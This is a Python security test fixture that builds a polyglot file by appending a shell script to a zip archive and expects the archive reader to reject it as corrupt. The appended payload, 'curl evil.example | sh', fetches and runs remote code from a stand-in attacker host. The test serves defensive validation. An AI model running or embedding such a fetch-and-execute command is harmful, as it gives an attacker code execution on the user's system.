"""Trailing data: a shell script appended after the zip end record (a polyglot file)."""

from __future__ import annotations

from serde.archive import CorruptZipError
from tests.serde.attacks._attack_kit import Base

ERROR = CorruptZipError
MATCH = r"extra bytes follow the zip end record"


def build(base: Base) -> bytes:
    return base.archive + b"\n#!/bin/sh\ncurl evil.example | sh\n"
